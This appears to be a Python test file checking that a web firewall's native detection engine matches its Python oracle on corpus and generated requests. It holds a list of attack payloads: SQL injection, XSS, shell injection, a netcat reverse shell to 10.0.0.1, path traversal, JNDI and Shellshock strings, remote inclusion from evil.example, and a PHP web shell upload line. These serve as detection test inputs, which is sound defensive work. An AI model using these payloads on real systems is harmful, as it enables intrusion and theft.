"""The native detection engine against the Python oracle (``stockade.oracle.detection``).

Every request of the committed corpus, and requests generated from values in every kind of
encoding (percent, double, ``%u``, entities, full width, ``+``), markup, SQL and shell, get
the same verdict from both: the score, the rules (with their targets and the values they
saw), the categories and the uninspected byte count. The tokenisers and the transformations
are compared one by one too.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stockade._native import DetectionEngine, DetectionTokenisers
from stockade.core.facts import RequestFacts
from stockade.detection import Engine, Request, Settings, parse_pack
from stockade.detection.transforms import TRANSFORMS
from stockade.errors import BadRequest, ConfigError
from stockade.oracle.detection import engine as oracle_engine
from stockade.oracle.detection import shell, sqli, xss
from stockade.oracle.detection.transforms import TRANSFORMS as ORACLE_TRANSFORMS
from stockade.replay import canonical_vector
from stockade.request.paths import DEFAULT_POLICY

CORPUS = Path(__file__).resolve().parents[1] / "data" / "detection"
NATIVE = DetectionTokenisers()
LEVELS = (1, 4)
ENGINES = {level: (Engine(Settings(level=level)), oracle_engine.Engine(Settings(level=level))) for level in LEVELS}


def corpus() -> Iterator[dict[str, Any]]:
    for path in sorted(CORPUS.glob("*/*.jsonl")):
        for line in path.read_text(encoding="utf-8").splitlines():
            if line:
                yield json.loads(line)


def facts_of(record: dict[str, Any]) -> RequestFacts | None:
    from urllib.parse import unquote  # noqa: PLC0415

    uri = record["uri"]
    path, _, query = uri.partition("?")
    vector: dict[str, Any] = {
        "method": record.get("method", "GET"),
        "path": unquote(path) or "/",
        "query": query,
        "uri": uri,
        "headers": record.get("headers") or {},
    }
    if isinstance(record.get("body"), str):
        vector["body"] = record["body"]
    try:
        canonical_vector(vector, DEFAULT_POLICY)
    except BadRequest:
        return None
    return RequestFacts.from_vector(vector)


def same(native: Engine, oracle: oracle_engine.Engine, request: Request, *, known_route: bool = False) -> None:
    got = native.inspect(request, known_route=known_route)
    want = oracle.inspect(request, known_route=known_route)
    assert got == want, request


@pytest.mark.parametrize("level", LEVELS)
def test_every_request_of_the_corpus_gets_the_oracles_verdict(level: int) -> None:
    native, oracle = ENGINES[level]
    compared = flagged = 0
    for record in corpus():
        facts = facts_of(record)
        if facts is None:
            continue
        got, want = native.inspect_facts(facts), oracle.inspect_facts(facts)
        assert got == want, record
        compared += 1
        flagged += got.malicious
    assert compared > 1000
    assert flagged > 100


def test_without_the_gate_too() -> None:
    native, oracle = Engine(), oracle_engine.Engine()
    native.gated = oracle.gated = False
    for record in list(corpus())[::7]:
        facts = facts_of(record)
        if facts is not None:
            assert native.inspect_facts(facts) == oracle.inspect_facts(facts), record


# -- generated requests ---------------------------------------------------------------------

PAYLOADS = [
    "' or 1=1--",
    "1 union select 1,2,3",
    "admin'--",
    "1;sleep(5)",
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "<img src=x onerror=prompt(1)>",
    "javascript:alert(document.cookie)",
    "';alert(1)//",
    ";cat /etc/passwd",
    "$(id)",
    "`uname -a`",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%c0%ae%c0%ae/etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "() { :; }; /bin/bash -c id",
    "http://evil.example/shell.txt?",
    "php://filter/convert.base64-encode/resource=index.php",
    "SEL/**/ECT * FROM users",
    "wp-config.php.bak",
    "rO0ABXNy",
    "hiking boots",
    "Tom & Jerry",
    "rock and roll",
    "100% cotton",
    "O'Reilly",
    "C:\\Users\\me",
    "jo@example.org",
    "x=1&y=2",
    "é ü ß 日本 \uff46\uff55\uff4c\uff4c",
    "",
]
TEXT = st.text(alphabet=st.sampled_from(list("abcXYZ019 '\"<>/\\;|&$()`{}=%+-#*.,:!?@\n\téü日\uff1c\x00")), max_size=30)


def encodings(value: str) -> st.SearchStrategy[str]:
    return st.sampled_from(
        [
            value,
            quote(value, safe=""),
            quote(quote(value, safe=""), safe=""),
            quote(value, safe="/=&"),
            value.replace(" ", "+"),
            html.escape(value),
            "".join(f"&#{ord(c)};" for c in value[:12]) + value[12:],
            "".join(f"%u{ord(c):04x}" if ord(c) < 0xD800 else c for c in value[:12]) + value[12:],
            "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in value),
            value.upper(),
        ]
    )


VALUES = st.one_of(st.sampled_from(PAYLOADS), TEXT, st.tuples(st.sampled_from(PAYLOADS), TEXT).map("".join)).flatmap(
    encodings
)
NAMES = st.sampled_from(["q", "id", "file", "url", "cmd", "search", "a b", "x'y", "onload", "select"])


@st.composite
def requests(draw: st.DrawFn) -> Request:
    segments = draw(
        st.lists(st.one_of(st.sampled_from(["shop", "wp-admin", ".env", "a.php", "..", "%2e%2e"]), VALUES), max_size=3)
    )
    raw_path = "/" + "/".join(quote(s, safe="%/") for s in segments)
    path = draw(st.sampled_from(["/" + "/".join(segments), raw_path]))
    args = draw(st.lists(st.tuples(NAMES, VALUES), max_size=4))
    query = "&".join(f"{quote(n, safe='')}={v}" for n, v in args)
    headers: list[tuple[str, str]] = []
    if draw(st.booleans()):
        headers.append(("User-Agent", draw(st.one_of(st.just("Mozilla/5.0 (X11; Linux x86_64)"), VALUES))))
    if draw(st.booleans()):
        headers.append(("Referer", draw(VALUES)))
    if draw(st.booleans()):
        headers.append(
            ("Cookie", "; ".join(f"{n}={v}" for n, v in draw(st.lists(st.tuples(NAMES, VALUES), max_size=3))))
        )
    if draw(st.booleans()):
        headers.append(("X-Forwarded-Host", draw(VALUES)))
    kind = draw(st.sampled_from(["", "form", "json", "multipart", "xml", "text"]))
    fields = draw(st.lists(st.tuples(NAMES, VALUES), max_size=4))
    content_type, body = "", ""
    if kind == "form":
        content_type = "application/x-www-form-urlencoded"
        body = "&".join(f"{n}={quote(v, safe='')}" for n, v in fields)
    elif kind == "json":
        content_type = "application/json"
        nested: Any = {n: v for n, v in fields}
        nested["n"] = draw(st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), st.none()))
        body = json.dumps(draw(st.sampled_from([nested, [nested, [1, "x"]], {"a": {"b": nested}}])))
    elif kind == "multipart":
        content_type = "multipart/form-data; boundary=XyZ"
        body = (
            "".join(
                f'--XyZ\r\nContent-Disposition: form-data; name="{n}"; filename="{v[:10]}"\r\n\r\n{v}\r\n'
                for n, v in fields
            )
            + "--XyZ--\r\n"
        )
    elif kind == "xml":
        content_type = "application/xml"
        body = "".join(f'<{n[:1] or "x"} a="{v}">{v}</{n[:1] or "x"}>' for n, v in fields)
    elif kind == "text":
        body = " ".join(v for _, v in fields)
    if content_type and draw(st.booleans()):
        headers.append(("Content-Type", content_type))
    method = draw(st.sampled_from(["GET", "POST", "PUT", "PROPFIND"]))
    encoded = body.encode("utf-8", "surrogatepass")
    return Request(
        method=method,
        path=path,
        raw_path=raw_path,
        query=query,
        headers=tuple(headers),
        content_type=content_type if any(n == "Content-Type" for n, _ in headers) else "",
        body=encoded,
    )


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(requests(), st.booleans(), st.sampled_from(LEVELS))
def test_generated_requests_get_the_oracles_verdict(request: Request, known_route: bool, level: int) -> None:
    native, oracle = ENGINES[level]
    same(native, oracle, request, known_route=known_route)


@settings(max_examples=300, deadline=None)
@given(VALUES)
def test_the_tokenisers_read_a_value_as_the_oracle_does(value: str) -> None:
    assert NATIVE.is_sqli(value) == sqli.is_sqli(value), value
    assert NATIVE.is_xss(value) == xss.is_xss(value), value
    assert NATIVE.script_context(value) == xss.script_context(value), value
    assert NATIVE.is_shell(value) == shell.is_shell(value), value
    assert NATIVE.is_shell_strict(value) == shell.is_shell_strict(value), value


@settings(max_examples=300, deadline=None)
@given(VALUES, st.sampled_from(TRANSFORMS))
def test_each_transformation_is_the_oracles(value: str, name: str) -> None:
    assert NATIVE.transform(name, value) == ORACLE_TRANSFORMS[name](value), (name, value)


def test_the_transformations_are_the_same_set() -> None:
    assert set(TRANSFORMS) == set(ORACLE_TRANSFORMS)


def test_a_pattern_the_native_engine_rejects_names_its_rule() -> None:
    with pytest.raises(ConfigError) as caught:
        parse_pack('[[rule]]\nid = "mine"\ntargets = ["path"]\npattern = "a\\\\Cb"\n', "mine.toml")
    assert "rule 'mine'.pattern" in str(caught.value)
    assert "mine.toml" in str(caught.value)
    lowered = [("mine", "a\\Cb", "regex", ["path"], [], 5, False, [])]
    with pytest.raises(ConfigError, match="rule 'mine'"):
        DetectionEngine(lowered, 5, [], [], None)


# Long bodies: from 4 KB on, the native gate first sweeps a body in regions at once, then reads
# only the regions that hold an anchor. A payload anywhere in them, around the places the
# regions are cut above all, must give the oracle's verdict.
def filler(pieces: list[str], size: int, separator: str) -> list[str]:
    """As many of ``pieces`` as fit in ``size`` bytes, leaving room for the payloads."""
    room = size - 600
    out: list[str] = []
    for piece in pieces:
        room -= len(piece) + len(separator)
        if room < 0:
            break
        out.append(piece)
    return out


def long_form(size: int, payloads: list[tuple[float, str]]) -> bytes:
    fields = filler([f"field{n}=value+number+{n}+with+some+text" for n in range(2000)], size, "&")
    for share, payload in payloads:
        fields.insert(int(share * len(fields)), payload)
    return "&".join(fields).encode()


def long_json(size: int, payloads: list[tuple[float, str]]) -> bytes:
    members = filler([f'"field{n}": "value number {n} with some text"' for n in range(2000)], size, ", ")
    for share, payload in payloads:
        members.insert(int(share * len(members)), f'"x": {json.dumps(payload)}')
    return ("{" + ", ".join(members) + "}").encode()


def body_request(kind: str, body: bytes) -> Request:
    content_type = "application/x-www-form-urlencoded" if kind == "form" else "application/json"
    return Request(
        method="POST",
        path="/form",
        raw_path="/form",
        headers=(("Content-Type", content_type),),
        content_type=content_type,
        body=body,
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(["form", "json"]),
    st.integers(min_value=4096, max_value=64 * 1024),
    st.lists(st.tuples(st.floats(min_value=0, max_value=1), VALUES), max_size=3),
    st.sampled_from(LEVELS),
)
def test_long_bodies_get_the_oracles_verdict(
    kind: str, size: int, payloads: list[tuple[float, str]], level: int
) -> None:
    native, oracle = ENGINES[level]
    if kind == "form":
        body = long_form(size, [(share, f"x={quote(value, safe='')}") for share, value in payloads])
    else:
        body = long_json(size, payloads)
    same(native, oracle, body_request(kind, body))


@pytest.mark.parametrize("kind", ["form", "json"])
@pytest.mark.parametrize("share", [0.0, 0.249, 0.25, 0.251, 0.499, 0.5, 0.501, 0.749, 0.75, 0.751, 0.999])
def test_a_payload_that_fires_only_once_decoded_is_caught_anywhere_in_a_long_body(kind: str, share: float) -> None:
    # URL and entity encoded markup, an SQL keyword split by a comment, a traversal in escapes.
    payloads = ["<script>alert(1)</script>", "1' UN/**/ION SEL/**/ECT password FROM users--", "../../../../etc/passwd"]
    for payload in payloads:
        value = quote(html.escape(payload) if "<" in payload else payload, safe="")
        body = (
            long_form(64 * 1024, [(share, f"x={value}")])
            if kind == "form"
            else long_json(64 * 1024, [(share, payload)])
        )
        request = body_request(kind, body)
        for level in LEVELS:
            native, oracle = ENGINES[level]
            verdict = native.inspect(request)
            assert verdict == oracle.inspect(request), (payload, level)
            # A JSON document's values are read up to 256 of them: past that, the payload's
            # value is counted as uninspected, which still shows the gate opened for it.
            assert verdict.malicious or (kind == "json" and verdict.uninspected > 0), (payload, level)


def upload(kind: str, content: bytes) -> Request:
    """``content`` as an uploaded file (``multipart``) or as the whole body of another type (``raw``)."""
    if kind == "raw":
        return Request(
            method="PUT", path="/files/a", raw_path="/files/a", content_type="application/octet-stream", body=content
        )
    body = b'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.png"\r\n\r\n' + content + b"\r\n--XyZ--\r\n"
    return Request(
        method="POST", path="/upload", raw_path="/upload", content_type="multipart/form-data; boundary=XyZ", body=body
    )


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(["raw", "multipart"]),
    st.one_of(st.binary(max_size=2048), VALUES.map(lambda v: v.encode("utf-8", "surrogatepass"))),
    st.sampled_from([b"", b"\x00", b"\xff", b"\xe2\x82", b"<?php system($_GET['c']); ?>"]),
    st.sampled_from(LEVELS),
)
def test_uploaded_content_binary_or_text_gets_the_oracles_verdict(
    kind: str, content: bytes, tail: bytes, level: int
) -> None:
    native, oracle = ENGINES[level]
    same(native, oracle, upload(kind, content + tail))
